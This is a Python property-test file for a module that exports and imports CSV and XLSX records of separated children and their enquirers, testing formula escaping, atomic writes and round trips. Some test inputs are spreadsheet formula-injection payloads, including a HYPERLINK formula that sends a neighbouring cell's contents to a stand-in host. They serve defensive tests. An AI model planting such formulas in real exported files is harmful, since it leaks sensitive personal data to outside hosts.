"""Writing: escaping, atomicity, and write→read round trips (property tests)."""

from __future__ import annotations

import csv
import unicodedata
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reunite.interchange import (
    FORMULA_TRIGGERS,
    LEGAL_STATUSES,
    InterchangeError,
    InterchangeRecord,
    PartialDate,
    escape_cell,
    read_file,
    unescape_cell,
    write_file,
)

TODAY = date(2026, 11, 1)


def _clean(s: str) -> str:
    while True:
        t = unicodedata.normalize("NFC", s).strip()
        if t == s:
            return s
        s = t


# Any script, no control characters, surrogates or unassigned/non-characters.
_chars = st.characters(blacklist_categories=("Cc", "Cs", "Cn", "Co"))
texts = st.text(_chars, max_size=25).map(_clean)
names = st.text(
    st.characters(blacklist_categories=("Cc", "Cs", "Cn", "Co"), blacklist_characters=";"),
    min_size=1,
    max_size=25,
).map(_clean)
dates = st.one_of(
    st.just(PartialDate()),
    st.dates(date(1990, 1, 1), date(2026, 10, 1)).flatmap(
        lambda d: st.sampled_from(
            [PartialDate.from_date(d), PartialDate(d.year, d.month), PartialDate(d.year)]
        )
    ),
)


@st.composite
def record_lists(draw: st.DrawFn, kind: str) -> list[InterchangeRecord]:
    ids = draw(st.lists(names.filter(bool), min_size=1, max_size=6, unique=True))
    out = []
    for rid in ids:
        birth = draw(dates)
        rec = InterchangeRecord(
            record_id=rid,
            surname=draw(texts),
            given_name=draw(texts),
            patronymic=draw(texts),
            full_name=draw(texts),
            other_names=tuple(draw(st.lists(names.filter(bool), max_size=3))),
            sex=draw(st.sampled_from(["F", "M", ""])),
            birth_date=birth,
            estimated_age=draw(st.one_of(st.none(), st.integers(0, 30))),
            birth_place=draw(texts),
            separation_date=PartialDate() if birth.year is None else PartialDate(2026, 10),
            mother_name=draw(texts),
            notes=draw(st.text(_chars, max_size=200).map(_clean)),
        )
        if kind == "enquiries":
            rec.enquirer_name = draw(texts)
            rec.enquirer_contact = draw(texts)
        else:
            rec.legal_status = draw(st.sampled_from((*LEGAL_STATUSES, "")))
            rec.institution = draw(texts)
        out.append(rec)
    return out


@given(st.text())
def test_escaped_cells_never_start_with_a_formula_character(value: str) -> None:
    escaped = escape_cell(value)
    assert escaped[:1] not in FORMULA_TRIGGERS
    assert unescape_cell(escaped) == value


def test_escape_examples() -> None:
    assert escape_cell('=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
    assert escape_cell("-5") == "'-5" and escape_cell("@SUM(A1)") == "'@SUM(A1)"
    assert escape_cell("O'Brien") == "O'Brien" and escape_cell("'=x") == "''=x"


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.sampled_from(["children", "enquiries", "records"]).flatmap(
        lambda k: st.tuples(st.just(k), record_lists(k))
    )
)
def test_csv_round_trip(tmp_path: Path, case: tuple[str, list[InterchangeRecord]]) -> None:
    kind, records = case
    p = tmp_path / "rt.csv"
    assert write_file(p, records, kind, today=TODAY) == len(records)  # type: ignore[arg-type]
    back = read_file(p, kind, today=TODAY).records  # type: ignore[arg-type]
    assert back == records


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(record_lists("children"))
def test_xlsx_round_trip(tmp_path: Path, records: list[InterchangeRecord]) -> None:
    p = tmp_path / "rt.xlsx"
    write_file(p, records, "children", today=TODAY)
    assert read_file(p, "children", today=TODAY).records == records


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_is_never_exported_unescaped(tmp_path: Path, suffix: str) -> None:
    evil = '=HYPERLINK("http://example.invalid/?leak="&A2,"click")'
    rec = InterchangeRecord("1", surname=evil, notes="+380 00 000 0000", given_name="-Іван")
    p = tmp_path / f"out{suffix}"
    write_file(p, [rec], "children")
    if suffix == ".csv":
        with p.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        cells = rows[1]
    else:
        ws = openpyxl.load_workbook(p).worksheets[0]
        row = next(ws.iter_rows(min_row=2, max_row=2))
        assert all(c.data_type != "f" for c in row)
        cells = [c.value or "" for c in row]
    assert all(c[:1] not in FORMULA_TRIGGERS for c in cells)
    assert "'" + evil in cells
    (back,) = read_file(p, "children").records
    assert back.surname == evil and back.given_name == "-Іван"


def test_invalid_records_write_nothing_and_keep_the_old_file(tmp_path: Path) -> None:
    p = tmp_path / "out.csv"
    p.write_text("previous content", encoding="utf-8")
    bad = [
        InterchangeRecord("1", sex="f"),
        InterchangeRecord("1", other_names=("a;b",)),
        InterchangeRecord("", surname=" padded "),
    ]
    with pytest.raises(InterchangeError) as info:
        write_file(p, bad, "children")
    msgs = [str(x) for x in info.value.problems]
    assert any(m.startswith("row 2, column sex") for m in msgs)
    assert any(m.startswith("row 3, column record_id: duplicate") for m in msgs)
    assert any(m.startswith("row 3, column other_names") for m in msgs)
    assert any(m.startswith("row 4, column record_id: is empty") for m in msgs)
    assert p.read_text(encoding="utf-8") == "previous content"
    assert [x.name for x in tmp_path.iterdir()] == ["out.csv"]


def test_failure_mid_write_leaves_no_file(tmp_path: Path) -> None:
    def records():
        yield InterchangeRecord("1")
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        write_file(tmp_path / "x.csv", records(), "children")
    assert list(tmp_path.iterdir()) == []


def test_extra_columns_and_bom(tmp_path: Path) -> None:
    rec = InterchangeRecord("1", extra={"eye_colour": "=1+1"})
    p = tmp_path / "x.csv"
    write_file(p, [rec], "enquiries", include_extra=True, bom=True)
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfrecord_id,") and b"'=1+1" in raw
    result = read_file(p, "enquiries")
    assert result.unknown_columns == ["eye_colour"]
    assert result.records[0].extra == {"eye_colour": "=1+1"}


def test_bad_target(tmp_path: Path) -> None:
    with pytest.raises(InterchangeError, match=r"use a \.csv or \.xlsx"):
        write_file(tmp_path / "x.txt", [], "children")
    with pytest.raises(InterchangeError, match="directory does not exist"):
        write_file(tmp_path / "no" / "x.csv", [], "children")
    with pytest.raises(ValueError, match="unknown file kind"):
        write_file(tmp_path / "x.csv", [], "people")  # type: ignore[arg-type]
